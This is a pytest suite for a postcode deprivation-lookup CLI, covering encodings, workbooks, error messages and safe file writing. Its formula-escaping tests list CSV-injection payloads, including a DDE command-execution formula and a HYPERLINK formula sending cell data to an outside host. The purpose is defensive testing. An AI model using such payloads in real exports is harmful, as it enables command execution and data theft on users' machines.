"""append.py: every row in its order with the right figures, what it refuses, and what it leaves behind: nothing."""

import csv
import io
import json
import os
import pty
import random
import re
import subprocess
import sys
from datetime import date, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from census.cli import append
from census.lookup import postcode_lists, postcodes
from census.lookup.database import Lookup
from census.lookup.postcode_lists import OWN
from census.lookup.postcodes import FIELDS, QUANTILE_FIELDS
from census.schema.indices import indices as band_rules
from census.tables.postcode_column import DELIMITERS
from sources.registry import publications
from tests.conftest import ROOT, THOROUGH

ASKED = [
    "SW1A 1AA",
    "cf143lx",
    " ML1 1AA",
    "BT2 7DX",
    "JE2 3AB",
    "ZZ99 3VZ",
    "EC1A 9ZZ",
    "nonsense",
    "",
    "SW1A\u00a01AA",
]
STATUSES = ["found"] * 4 + ["not_covered", "unknown", "unknown", "invalid", "invalid", "found"]
INDICES = sorted(p.index.id for p in publications() if p.index)


@pytest.fixture(scope="module")
def lookup(extract_db):
    opened = Lookup(extract_db, band_rules())
    yield opened
    opened.close()


@pytest.fixture
def run(extract_db, tmp_path, capsys):
    """Runs append.py on a table in `tmp_path`: its status, the bytes written (None for no file) and what it said."""

    def ran(content: bytes | str, *options: str, name="in.csv", out="out.csv", encoding="utf-8"):
        table = tmp_path / name
        table.write_bytes(content if isinstance(content, bytes) else content.encode(encoding))
        written = tmp_path / out
        status = append.main([str(table), "-o", str(written), "--database", str(extract_db), *options])
        told = capsys.readouterr()
        assert told.out == ""
        assert sorted(path.name for path in tmp_path.iterdir() if path.name.startswith(".")) == []
        return status, written.read_bytes() if status == 0 else None, told.err

    return ran


def rows_of(content: bytes, encoding="utf-8", delimiter=",") -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode(encoding), newline=""), delimiter=delimiter))


def table(postcodes, end="\n") -> str:
    text = io.StringIO()
    writer = csv.writer(text, lineterminator=end)
    writer.writerows([["id", "Postcode"], *([n, postcode] for n, postcode in enumerate(postcodes))])
    return text.getvalue()


def long_table(times: int) -> str:
    """ASKED so many times, in rows of 200 characters: it is longer than a pipe holds, and than what is read at once."""
    return "note,postcode\n" + "".join(f"{'-' * 190},{postcode}\n" for postcode in ASKED) * times


# What it adds


def test_every_row_stays_in_its_order_with_its_status(run):
    status, written, told = run(table(ASKED))
    rows = rows_of(written)
    assert status == 0
    assert [(row["id"], row["Postcode"]) for row in rows] == [(str(n), asked) for n, asked in enumerate(ASKED)]
    assert [row["imd_status"] for row in rows] == STATUSES
    assert list(rows[0]) == ["id", "Postcode", *(f"imd_{column}" for column in append.COLUMNS)]
    palace = {column: rows[0][f"imd_{column}"] for column in append.COLUMNS}
    assert palace["index_id"] == "england_2025"
    assert (palace["area_code"], palace["rank"], palace["of"], palace["decile"]) == ("E01004736", "24593", "33755", "8")
    assert {rows[n][f"imd_{column}"] for n in (5, 6, 7, 8) for column in append.COLUMNS[1:]} == {""}
    assert "10 rows to" in told
    assert "found 5, terminated 0, not_covered 1, unknown 2, invalid 2" in told
    assert "England 2, Jersey 1, Northern Ireland 1, Scotland 1, Wales 1" in told


def test_a_message_names_the_postcode_that_looks_alike_and_nothing_else_does(run):
    rows = ["CF1O 1AA", "CF10 1A1", "SWIA 1AA", "EC1A 9ZZ", "ZZ99 3VZ"]
    _, content, told = run(table(rows), "--columns", "status,message,rank")
    messages = [row["imd_message"] for row in rows_of(content)]
    assert [message.rpartition(". ")[2] for message in messages[:3]] == [
        "CF10 1AA looks alike and is known here: was that meant?",
        "CF10 1AL looks alike and is known here: was that meant?",
        "SW1A 1AA would be.",
    ]
    assert not [message for message in messages[3:] if "meant" in message]
    assert {row["imd_rank"] for row in rows_of(content)} == {""}, "no figure is given for what it may be"
    assert not re.search("CF1|SW1", told)


def test_invisible_marks_are_no_part_of_a_postcode_and_stay_in_their_cell(run):
    asked = ["SW1A\u200b1AA\ufeff", "\u202aCF14 3LX\u202c", "S\u00adW1A 1AA"]
    _, content, _ = run(table(asked))
    rows = rows_of(content)
    assert [row["imd_status"] for row in rows] == ["found"] * 3
    assert [row["Postcode"] for row in rows] == asked


def expected(lookup, postcode: str, columns, index: str, q: int | None) -> dict[str, str]:
    """What the canned query says of a postcode, as a CSV has it."""
    figures = postcodes.one(lookup, postcode, index)
    told = figures._asdict() | lookup.indices.quantile(figures, q)._asdict()
    return {f"imd_{column}": "" if told[column] is None else str(told[column]) for column in columns}


def test_each_figure_is_that_of_the_lookup_of_one_postcode(run, lookup):
    every = [row["postcode"] for row in lookup.rows("select postcode from postcodes order by postcode")]
    columns = ("status", *(field for field in FIELDS if field not in (*OWN, "status")), *QUANTILE_FIELDS)
    assert len(columns) > 35
    chance = random.Random(2)
    for index in ("", "latest", "2019", *INDICES):
        asked = chance.sample(every, 1500 if THOROUGH else 120) + ASKED
        told = [expected(lookup, postcode, (*columns, *OWN), index, 7) for postcode in asked]
        for fields in (columns, (*columns, *sorted(OWN))):
            options = ["--columns", ",".join(fields), "--quantile", "7", "--force"]
            _, written, _ = run(table(asked), *options, *(["--index", index] if index else []))
            for row, answer, postcode in zip(rows_of(written), told, asked, strict=True):
                assert {f"imd_{field}" for field in fields} == row.keys() - {"id", "Postcode"}
                assert row.items() - {("id", row["id"]), ("Postcode", row["Postcode"])} <= answer.items(), postcode


def same_by_areas(lookup, most: int) -> int:
    """Compares `by_areas` with `many` for so many postcodes; returns how many."""
    fields = tuple(field for field in (*FIELDS, *QUANTILE_FIELDS) if field not in OWN)
    every = [row["postcode"] for row in lookup.rows("select postcode from postcodes order by postcode")]
    every = random.Random(3).sample(every, min(most, len(every)))
    for index, q in (("", 5), ("2019", 10)):
        known = {}
        for start in range(0, len(every), 5000):
            texts = every[start : start + 5000]
            answers, counts = postcode_lists.by_areas(lookup, texts, index, fields, q, known)
            expected, counted = postcode_lists.many(lookup, texts, index, fields, q)
            for text, answer, other in zip(texts, answers, expected, strict=True):
                assert answer == other, text
            assert counts == counted
    return len(every)


def test_postcodes_of_the_same_areas_share_their_figures(lookup):
    assert same_by_areas(lookup, 1_000_000 if THOROUGH else 8_000) >= 8_000


def test_postcodes_of_the_same_areas_share_their_figures_in_the_whole_uk(full_build):
    opened = Lookup(full_build.path, band_rules())
    assert same_by_areas(opened, 50_000) == 50_000
    opened.close()


def test_quantile_index_prefix_and_columns_are_as_asked(run):
    options = ["--index", "england_2019", "--quantile", "5", "--prefix", "x "]
    _, written, _ = run(table(["SW1A 1AA", "CF14 3LX"]), *options)
    palace, cardiff = rows_of(written)
    assert (palace["x rank"], palace["x data_quantile"]) == ("24862", "4")
    assert (cardiff["x status"], cardiff["x rank"], cardiff["x data_quantile"]) == ("found", "", "")
    _, written, told = run(table(["SW1A 1AA"]), "--columns", "idaci_decile,status,edition", "--force")
    assert list(rows_of(written)[0])[2:] == ["imd_idaci_decile", "imd_status", "imd_edition"]
    assert rows_of(written)[0]["imd_edition"] in told
    _, written, _ = run(table(["SW1A 1AA"]), "--columns", "decile,decile", "--force")
    assert list(rows_of(written)[0])[2:] == ["imd_status", "imd_decile"]
    _, written, _ = run(table(["SW1A 1AA"]), "--columns", "decile", "--quantile", "4", "--force")
    assert list(rows_of(written)[0])[2:] == ["imd_status", "imd_decile", "imd_data_quantile"]


def test_green_space_is_that_of_the_authority_of_2019(run, lookup):
    name = "total_addresses_with_private_outdoor_space_share"
    columns = f"decile,{name},local_authority_2019_name,message"
    _, written, told = run(table(["SW1A 1AA", "BT2 7DX", "JE2 3AB", "x"]), "--columns", columns)
    palace, *others = rows_of(written)
    assert palace[f"imd_{name}"] == str(getattr(lookup.green_space["E09000033"], name))
    assert palace["imd_local_authority_2019_name"] == "Westminster"
    assert {row[f"imd_{name}"] for row in others} == {""}
    assert "'x'" in others[2]["imd_message"]
    assert "Office for National Statistics" in told


def test_the_summary_tells_of_older_editions_and_of_the_wrong_index(run, lookup):
    [old] = lookup.rows("select postcode from postcodes where lsoa_2021 is null and lsoa_2011 like 'E%' limit 1")
    _, _, told = run(table([old["postcode"], "SW1A 1AA"]))
    assert "1 have figures of an older index than their nation's newest: see imd_index_id\n" in told
    _, _, told = run(table([old["postcode"], "SW1A 1AA"]), "--columns", "decile", "--force")
    assert "newest: index_id, added to --columns, says which\n" in told
    _, _, told = run(table([old["postcode"], "SW1A 1AA"]), "--index", "england_2025", "--force")
    assert "older" not in told
    assert "1 of those found or terminated have no figures" in told
    assert "This database is an extract" in told
    _, _, told = run(table(["BT2 7DX"]), "--force")
    assert "Northern Ireland End User Licence" in told


# How tables may look


@pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "utf-16", "cp1252"])
@pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
@pytest.mark.parametrize("end", ["\n", "\r\n"])
def test_encoding_delimiter_and_line_ends_are_detected_and_kept(run, encoding, delimiter, end):
    rows = [["Näme", "Postcode", "note"], ["Zoë, B; c|d", "SW1A 1AA", 'said "no"'], ["two\nlines", "cf14 3lx", ""]]
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter, lineterminator=end).writerows(rows)
    status, written, told = run(text.getvalue(), encoding=encoding)
    assert status == 0
    assert f"{encoding}, {DELIMITERS[delimiter]} between cells, 3 columns" in told
    assert written.decode(encoding).startswith(text.getvalue().split(end)[0] + delimiter + "imd_status")
    assert written.count(end.encode(encoding.removesuffix("-sig").replace("utf-16", "utf-16-le"))) >= 3
    found = list(csv.reader(io.StringIO(written.decode(encoding), newline=""), delimiter=delimiter))
    assert [row[:3] for row in found] == rows
    assert [row[3] for row in found[1:]] == ["found", "found"]


cells = st.text(st.characters(codec="utf-8", exclude_characters="\0"), max_size=8)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    rows=st.lists(st.lists(st.one_of(cells, st.sampled_from(ASKED)), min_size=3, max_size=3), max_size=6),
    delimiter=st.sampled_from(",;\t|"),
)
def test_whatever_stands_in_the_cells_stays(run, rows, delimiter):
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=delimiter, lineterminator="\r\n").writerows([["a", "postcode", "b"], *rows])
    status, written, _ = run(
        text.getvalue(), "--force", "--encoding", "utf-8", "--delimiter", delimiter, "--postcode", "postcode"
    )
    assert status == 0
    found = list(csv.reader(io.StringIO(written.decode(), newline=""), delimiter=delimiter))
    assert [row[:3] for row in found[1:]] == rows
    assert {len(row) for row in found} == {3 + len(append.COLUMNS)}


def test_encoding_and_delimiter_can_be_named(run):
    status, written, _ = run("postcode\nSW1A 1AA\n", "--encoding", "utf-8", encoding="utf-8-sig")
    assert rows_of(written, "utf-8-sig")[0]["imd_decile"] == "8"
    text = "id:postcode:name\n1:SW1A 1AA:Łódź\n"
    status, written, told = run(text, "--encoding", "cp1250", "--delimiter", ":", "--force", encoding="cp1250")
    assert status == 0
    assert "cp1250, ':' between cells" in told
    assert written.decode("cp1250").splitlines()[1].startswith("1:SW1A 1AA:Łódź:found:England")
    assert run("a\tpostcode\n1\tSW1A 1AA\n", "--delimiter", "tab", "--force")[0] == 0


def test_short_rows_and_empty_lines_stay_rows_and_empty_cells_too_many_are_no_loss(run):
    status, written, _ = run("id,postcode,x\n1\n\n2,SW1A 1AA\n3,SW1A 1AA,y,,\n")
    assert status == 0
    assert [line.split(",")[:4] for line in written.decode().splitlines()[1:]] == [
        ["1", "", "", "invalid"],
        ["", "", "", "invalid"],
        ["2", "SW1A 1AA", "", "found"],
        ["3", "SW1A 1AA", "y", "found"],
    ]


def test_a_table_without_rows_and_one_of_a_single_column(run):
    status, written, told = run("id,postcode\n")
    assert (status, len(written.splitlines())) == (0, 1)
    assert "0 rows" in told
    status, written, _ = run("postcode\nSW1A 1AA\n\n", "--force")
    assert [row["imd_status"] for row in rows_of(written)] == ["found", "invalid"]


@pytest.mark.parametrize("name", ["POSTCODE", "postcode", " Postcode ", "post code"])
def test_the_column_is_found_in_its_letters_or_in_any_case(run, name):
    options = ["--postcode", "post code"] if name == "post code" else []
    assert rows_of(run(f"id,{name}\n1,SW1A 1AA\n", *options)[1])[0]["imd_decile"] == "8"
    both = "postcode,POSTCODE\nML1 1AA,SW1A 1AA\n"
    for wanted, decile in (("postcode", "1"), ("POSTCODE", "8")):
        assert rows_of(run(both, "--postcode", wanted, "--force")[1])[0]["imd_decile"] == decile


def workbook(path: Path, rows: list[list], sheet="Sheet") -> bytes:
    book = openpyxl.Workbook()
    book.active.title = "other"
    book.active.append(["nothing", "here"])
    page = book.create_sheet(sheet, 0)
    for row in rows:
        page.append(row)
    book.save(path)
    return path.read_bytes()


def test_a_workbook_is_read_and_a_csv_for_excel_is_written(run, tmp_path):
    rows = [["id", "Postcode", "born", "seen", "weight", "Ynys Môn", "yes"]]
    rows += [[4000000123, "SW1A 1AA", date(2010, 2, 3), datetime(2020, 1, 2, 3, 4), 3.5, "ŵ, x", True]]
    rows += [[None, "nonsense", None, None, 0, None, False], [1, None, None, None, None, None, "'"]]
    content = workbook(tmp_path / "made.xlsx", rows, "Patients")
    status, written, told = run(content, name="in.xlsx")
    assert status == 0
    assert re.search(r"'Patients'.* 2\b.* 7 columns", told)
    assert written.startswith(b"\xef\xbb\xbfid,")
    found = [line[:8] for line in csv.reader(io.StringIO(written.decode("utf-8-sig"), newline=""))]
    assert found[1] == ["4000000123", "SW1A 1AA", "2010-02-03", "2020-01-02 03:04:00", "3.5", "ŵ, x", "TRUE", "found"]
    assert found[2] == ["", "nonsense", "", "", "0", "", "FALSE", "invalid"]
    assert found[3] == ["1", "", "", "", "", "", "'", "invalid"]
    status, _, told = run(content, "--sheet", "other", name="in.xlsx", out="other.csv")
    assert (status, "nothing, here" in told, "--postcode" in told, "--sheet" in told) == (1, False, True, True)
    status, _, told = run(content, "--sheet", "gone", name="in.xlsx", out="other.csv")
    assert (status, "'gone'" in told, "Patients, other" in told) == (1, True, True)
    status, written, _ = run(content, name="in.xlsx", out="out.tsv")
    assert written.decode("utf-8-sig").startswith("id\tPostcode\t")


# Formulas: a spreadsheet runs what begins like one

FORMULAS = [
    *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "\tx", "\rx", "\nx", "=", "-", "--5", "+44 7700 900123", "-3.5=1", "-A1"),
    *('=HYPERLINK("http://example.org?x="&A1,"here")', "=cmd|' /C calc'!A0", " =1+1", "\u00a0=1", "\uff1d1+1", "-3\n"),
]
NO_FORMULAS = [
    "-3.5",
    "+44",
    "+447700900123",
    "-1,234.5",
    "-.5",
    "-5%",
    "-1e5",
    "5",
    "x=1",
    "'=1",
    "",
    "O'Brien",
    "a-b",
]


def test_by_default_no_cell_is_changed_a_formula_neither(run):
    cells = [*FORMULAS, *NO_FORMULAS]
    text = io.StringIO(newline="")
    csv.writer(text).writerows([["=note", "postcode"], *([value, "SW1A 1AA"] for value in cells)])
    _, written, _ = run(text.getvalue())
    found = list(csv.reader(io.StringIO(written.decode(), newline="")))
    assert [row[0] for row in found] == ["=note", *cells]


def test_formulas_are_escaped_where_that_is_asked_for(run):
    cells = [*FORMULAS, *NO_FORMULAS]
    text = io.StringIO(newline="")
    csv.writer(text).writerows([["=note", "postcode", "-"], *([value, "SW1A 1AA", value] for value in cells)])
    _, written, _ = run(text.getvalue(), "--escape-formulas", "--prefix", "=x_", "--columns", "decile,message")
    header, *found = csv.reader(io.StringIO(written.decode(), newline=""))
    assert header == ["'=note", "postcode", "'-", "'=x_status", "'=x_decile", "'=x_message"]
    expected = [f"'{value}" for value in FORMULAS] + NO_FORMULAS
    assert [row[0] for row in found] == expected
    assert [row[2] for row in found] == expected
    assert {row[3] for row in found} == {"found"}


def test_an_escaped_postcode_is_looked_up_as_it_was_and_a_message_is_escaped_too(run):
    text = "postcode\n\tSW1A 1AA\n=1+1\n"
    _, written, _ = run(text, "--escape-formulas", "--columns", "message")
    found = list(csv.reader(io.StringIO(written.decode(), newline="")))[1:]
    assert [row[:2] for row in found] == [["'\tSW1A 1AA", "found"], ["'=1+1", "invalid"]]
    assert not found[1][2].startswith(("=", "+", "-", "@"))


def test_a_workbook_s_formulas_are_escaped_and_its_negative_numbers_stay(run, tmp_path):
    content = workbook(tmp_path / "made.xlsx", [["postcode", "weight", "note"], ["SW1A 1AA", -3.5, "@x"]])
    _, written, _ = run(content, "--escape-formulas", name="in.xlsx")
    assert list(csv.reader(io.StringIO(written.decode("utf-8-sig"), newline="")))[1][:3] == ["SW1A 1AA", "-3.5", "'@x"]


# What is refused: each names what is wrong, writes nothing and shows no cell

PLAIN = "id,postcode\n1,SW1A 1AA\n"
REFUSED = {  # a table, options, what the message must name
    "an empty file": ("", [], ["in.csv"]),
    "an empty first line": ("\n1,2\n", [], ["in.csv", "column"]),
    "no such column": ("id,code\n1,SW1A 1AA\n", ["--postcode", "x"], ["'x'", "--postcode 2", "id, code"]),
    "no column of postcodes": ("id,code\n1,x\n", [], ["'postcode'", "--postcode", "columns (2) are not shown"]),
    "a postcode for a header": ("1,SW1A 1AA\n2,ML1 1AA\n", [], ["first row", "column"]),
    "a number for a header": ("9434765919,Smith\n", [], ["first row", "column"]),
    "a row with a date for a header": ("Smith,1/2/10\n", [], ["'postcode'", "columns (2) are not shown"]),
    "a row with a note for a header": (f"Smith,{'fell ' * 20}\n", [], ["'postcode'", "columns (2) are not shown"]),
    "a row with an address for a header": ("Smith,1 Mall SW1A 1AA London\n", [], ["'postcode'", "not shown"]),
    "a row with an e-mail address for a header": ("Smith,x@y.example\n", [], ["'postcode'", "not shown"]),
    "a row with an empty cell for a header": ("Smith,,M\n", [], ["'postcode'", "columns (3) are not shown"]),
    "a row with an age for a header": ("Smith,42\n", [], ["'postcode'", "not shown"]),
    "two such columns": ("postcode,postcode\nSW1A 1AA,x\n", [], ["2", "'postcode'"]),
    "an added column that is there": ("postcode,imd_decile\nSW1A 1AA,x\n", [], ["in.csv", "imd_decile", "--prefix"]),
    "a long row": ("id,postcode\n1,SW1A 1AA,secret\n", [], ["in.csv", "Row 2 ", " 3 ", " 2."]),
    "a long row far down": ("id,postcode\n" + "1,SW1A 1AA\n" * 2500 + "1,2,3\n", [], ["in.csv", "Row 2,502 "]),
    "a quote without end": ('id,postcode\n1,"SW1A 1AA\n', [], ["in.csv", "line 2"]),
    "a quote within a cell": ('id,postcode\n1,"SW1A" 1AA\n', [], ["in.csv", "line 2"]),
    "a line without end": ("id,postcode\n" + "1,SW1A 1AA," * 2_000_000, [], ["in.csv", "16 million", "after line 1"]),
    "a quote that holds half the file": ('id,postcode\n1,"' + "SW1A 1AA\n" * 2_000_000, [], ["in.csv", "limit"]),
    "a wrong column": (PLAIN, ["--columns", "decile,colour"], ["'colour'", "decile, "]),
    "a column without its option": (PLAIN, ["--columns", "data_quantile"], ["data_quantile", "--quantile"]),
    "a wrong index": (PLAIN, ["--index", "england_1999"], ["'england_1999'", "england_2019"]),
    "a quantile of one": (PLAIN, ["--quantile", "1"], ["'1'", "quantile", "2 to 100"]),
    "a quantile in words": (PLAIN, ["--quantile", "five"], ["'five'", "quantile", "2 to 100"]),
    "no database": (PLAIN, ["--database", "/nowhere/census.db"], ["/nowhere/census.db", "build_db.py", "--database"]),
    "not cp1252": (b"id,postcode\n1,SW1A 1AA\xff\xfe\x81\n", [], ["in.csv", "cp1252", "line 2", "--encoding"]),
    "not UTF-8": (b"id,postcode\n1,SW1A 1AA \xe9\n", ["--encoding", "utf-8"], ["in.csv", "utf-8", "--encoding"]),
    "not UTF-16": (PLAIN, ["--encoding", "utf-16"], ["in.csv", "utf-16", "line 0", "--encoding"]),
    "not UTF-32": (PLAIN, ["--encoding", "utf-32"], ["in.csv", "utf-32", "line 0", "--encoding"]),
    "an encoding of no files": (PLAIN, ["--encoding", "idna"], ["in.csv", "idna", "--encoding"]),
    "UTF-16 without its mark": (PLAIN.encode("utf-16-le"), [], ["in.csv", "--encoding utf-16-le"]),
    "no xlsx": (b"PK\x03\x04 SW1A 1AA", [], ["in.csv", "workbook", ".xlsx"]),
    "no xls": (b"\xd0\xcf\x11\xe0 SW1A 1AA", [], ["in.csv", "workbook", ".xlsx"]),
}


@pytest.mark.parametrize("content, options, names", REFUSED.values(), ids=REFUSED)
def test_what_cannot_be_done_is_refused_with_the_reason(run, tmp_path, content, options, names):
    status, _, told = run(content, *options)
    assert status == 1
    *_, problem, end = told.splitlines()
    assert problem.startswith("append.py: ")
    assert end.startswith("append.py: ")
    assert [name for name in names if name not in problem] == []
    for cell in ("1AA", "secret", "Smith", "943476"):
        assert cell not in told
    assert not (tmp_path / "out.csv").exists()


def test_a_file_that_is_no_database_is_refused(run, tmp_path):
    (tmp_path / "other.db").write_bytes(b"no database at all" * 100)
    status, _, told = run(table(ASKED), "--database", str(tmp_path / "other.db"))
    assert status == 1
    assert str(tmp_path / "other.db") in told
    assert "build_db.py" in told


def test_a_text_that_the_encoding_has_not_is_an_error(run):
    content = "id,postcode\n1,a long text that is no postcode\n"  # its message ends it with a sign that ASCII has not
    status, _, told = run(content, "--columns", "message", "--encoding", "ascii")
    assert status == 1
    assert "ascii" in told
    assert "--columns" in told
    assert "Traceback" not in told
    assert run(content, "--columns", "message", "--encoding", "utf-8")[0] == 0


def test_an_error_that_nobody_foresaw_quotes_no_cell(run, monkeypatch):
    def fails(*_):
        raise ValueError("could not convert 'SW1A 1AA' of Smith")

    monkeypatch.setattr(append, "blocks", fails)
    status, _, told = run(table(ASKED))
    assert status == 1
    assert "append.py: Internal error: ValueError at test_append.py, line " in told
    assert "1AA" not in told
    assert "Smith" not in told
    assert "Traceback" not in told


def test_memory_that_ends_is_an_error_in_words(run, monkeypatch):
    def fails(*_):
        raise MemoryError

    monkeypatch.setattr(append, "blocks", fails)
    status, _, told = run(table(ASKED))
    assert (status, "not enough memory to read" in told) == (1, True)


@pytest.mark.parametrize(
    "options",
    [
        [],
        ["in.csv"],
        ["in.csv", "-o", "out.xlsx"],
        ["in.csv", "-o", "out.csv", "--encoding", "klingon"],
        ["in.csv", "-o", "out.csv", "--delimiter", "::"],
        ["in.csv", "-o", "out.csv", "--delimiter", '"'],
        ["in.csv", "-o", "out.csv", "--nonsense"],
    ],
)
def test_misuse_is_told_with_the_usage(options, capsys):
    with pytest.raises(SystemExit) as ended:
        append.main(options)
    assert ended.value.code == 2
    assert "usage:" in capsys.readouterr().err


# What it writes over and leaves behind


def test_nothing_is_replaced_without_force(run, tmp_path):
    (tmp_path / "out.csv").write_text("mine")
    status, _, told = run(table(ASKED))
    assert status == 1
    assert str(tmp_path / "out.csv") in told
    assert "--force" in told
    assert (tmp_path / "out.csv").read_text("utf-8") == "mine"
    (tmp_path / "out.csv").chmod(0o640)
    status, written, _ = run(table(ASKED), "--force")
    assert (status, len(rows_of(written))) == (0, len(ASKED))
    assert (tmp_path / "out.csv").stat().st_mode & 0o777 == 0o640


def test_with_force_a_failure_leaves_what_was_there(run, tmp_path):
    (tmp_path / "out.csv").write_text("mine")
    assert run("id,postcode\n1,2,3\n", "--force")[0] == 1
    assert (tmp_path / "out.csv").read_text("utf-8") == "mine"


def test_a_table_may_be_replaced_by_itself(run):
    status, written, _ = run(table(ASKED), "--force", out="in.csv")
    assert (status, [row["imd_status"] for row in rows_of(written)]) == (0, STATUSES)


def test_a_folder_a_device_and_a_place_that_is_not_there_are_refused(run, tmp_path):
    (tmp_path / "folder").mkdir()
    for out, named in (("folder", "folder"), ("/dev/null", "/dev/null"), ("gone/out.csv", "gone/")):
        status, _, told = run(table(ASKED), "--force", out=out)
        assert (status, named in told) == (1, True)
    status = append.main([str(tmp_path / "gone.csv"), "-o", str(tmp_path / "x.csv")])
    assert status == 1


def statuses_of(content: bytes) -> list[str]:
    """The statuses of a long table, as `rows_of` would give them."""
    header, *rows = csv.reader(io.StringIO(content.decode(), newline=""))
    place = header.index("imd_status")
    return [row[place] for row in rows]


def command(extract_db, *options) -> list[str]:
    return [sys.executable, str(ROOT / "append.py"), "--database", str(extract_db), *options]


@pytest.mark.parametrize("encoding", ["utf-8", "cp1252", "utf-16"])
def test_standard_input_and_output(extract_db, encoding):
    content = (table(ASKED[:-1], "\r\n") + "10,SW1A 1AA\r\nZoë,\r\n").encode(encoding)
    done = subprocess.run(command(extract_db, "-", "-o", "-"), input=content, capture_output=True, timeout=60)
    assert done.returncode == 0, done.stderr
    rows = rows_of(done.stdout, encoding)
    assert [row["imd_status"] for row in rows] == [*STATUSES[:-1], "found", "invalid"]
    assert rows[-1]["id"] == "Zoë"
    assert b"standard input: " in done.stderr
    assert b"1AA" not in done.stderr


def test_a_long_standard_input_is_read_to_its_end(extract_db):
    long = long_table(800).encode()
    assert len(long) > 1 << 20, "more than it is recognised by"
    done = subprocess.run(command(extract_db, "-", "-o", "-"), input=long, capture_output=True, timeout=100)
    assert done.returncode == 0, done.stderr
    assert statuses_of(done.stdout) == STATUSES * 800
    late = long + b"1,\xe9\n"  # after what the encoding was told from
    done = subprocess.run(command(extract_db, "-", "-o", "-"), input=late, capture_output=True, timeout=100)
    assert done.returncode == 1
    assert re.search(rb"is not utf-8 after line [78],\d{3}: name --encoding", done.stderr)


def test_a_workbook_may_come_by_standard_input(extract_db, tmp_path):
    content = workbook(tmp_path / "made.xlsx", [["postcode"], ["SW1A 1AA"]])
    done = subprocess.run(command(extract_db, "-", "-o", "-"), input=content, capture_output=True, timeout=60)
    assert rows_of(done.stdout, "utf-8-sig")[0]["imd_decile"] == "8"


def test_a_pipe_may_stand_in_the_place_of_a_file(extract_db, tmp_path):
    (tmp_path / "in.csv").write_text(long_table(800))
    told = " ".join(command(extract_db, f"<(cat {tmp_path / 'in.csv'})", "-o", "-"))
    done = subprocess.run(["bash", "-c", told], capture_output=True, timeout=60)
    assert statuses_of(done.stdout) == STATUSES * 800


def test_a_full_disk_is_an_error(extract_db):
    with open("/dev/full", "wb") as full:
        asked = command(extract_db, "-", "-o", "-")
        done = subprocess.run(asked, input=table(ASKED * 100).encode(), stdout=full, stderr=subprocess.PIPE, timeout=60)
    assert done.returncode != 0
    assert b"No space left on device" in done.stderr
    assert b"Traceback" not in done.stderr
    assert b"1AA" not in done.stderr


def test_a_reader_that_goes_away_is_no_error_of_ours(extract_db, tmp_path):
    (tmp_path / "in.csv").write_text(long_table(2_000))
    told = " ".join(command(extract_db, str(tmp_path / "in.csv"), "-o", "-"))
    done = subprocess.run(["bash", "-c", f"{told} | head -1"], capture_output=True, text=True, timeout=60)
    assert done.stdout.startswith("note,postcode,imd_status")
    assert "Traceback" not in done.stderr


def test_a_terminal_sees_how_far_it_is(extract_db, tmp_path):
    (tmp_path / "in.csv").write_text(long_table(2_000))
    ours, theirs = pty.openpty()
    started = command(extract_db, str(tmp_path / "in.csv"), "-o", str(tmp_path / "out.csv"))
    process = subprocess.Popen(started, stderr=theirs)
    os.close(theirs)
    told = b""
    with os.fdopen(ours, "rb", buffering=0) as terminal:
        try:
            while block := terminal.read(4096):
                told += block
        except OSError:  # the other end is closed
            pass
    assert process.wait(60) == 0
    assert re.search(rb"adding.*\d+%", told, re.DOTALL)
    assert b"1AA" not in told


HOOKED = """
import json, os, sys
seen = []
def hook(event, args):
    if event.startswith("socket.") or event in ("subprocess.Popen", "os.exec", "os.fork", "syslog.openlog"):
        seen.append(event)
    if event == "open" and (isinstance(args[2], int) and args[2] & (os.O_WRONLY | os.O_RDWR | os.O_CREAT)):
        seen.extend([str(args[0])] * isinstance(args[0], str))
    if event == "os.rename":
        seen.append(f"rename {os.path.basename(args[1])}")
from census.cli import append
sys.addaudithook(hook)
status = append.main(sys.argv[1:])
print(json.dumps([status, seen]))
"""


def test_no_network_no_log_and_no_copy(extract_db, tmp_path):
    (tmp_path / "in.csv").write_text(table(ASKED))
    asked = [str(tmp_path / "in.csv"), "-o", str(tmp_path / "out.csv"), "--database", str(extract_db)]
    told = subprocess.run(
        [sys.executable, "-B", "-c", HOOKED, *asked], capture_output=True, text=True, cwd=ROOT, timeout=60
    )
    status, seen = json.loads(told.stdout)
    assert status == 0
    if "rename out.csv" in seen:  # a file system without unnamed files
        assert seen[0].startswith(str(tmp_path / ".out.csv."))
        assert seen[1:] == ["rename out.csv"]
    else:
        assert seen == [str(tmp_path)], "the folder, in which the file has no name"
    assert sorted(path.name for path in tmp_path.iterdir()) == ["in.csv", "out.csv"]


def test_memory_does_not_grow_with_the_table(extract_db, tmp_path):
    peak = "import re,sys,append; append.main(sys.argv[1:]); "
    peak += "print(re.search('VmHWM:\\\\s+(\\\\d+)', open('/proc/self/status').read())[1])"
    used = []
    for times in (500, 8_000):
        (tmp_path / "in.csv").write_text(long_table(times))
        asked = [str(tmp_path / "in.csv"), "-o", str(tmp_path / "out.csv"), "--database", str(extract_db), "--force"]
        told = subprocess.run([sys.executable, "-c", peak, *asked], capture_output=True, cwd=ROOT, timeout=100)
        used.append(int(told.stdout) / 1024)
    assert used[1] < used[0] + 20
    assert used[1] < 300
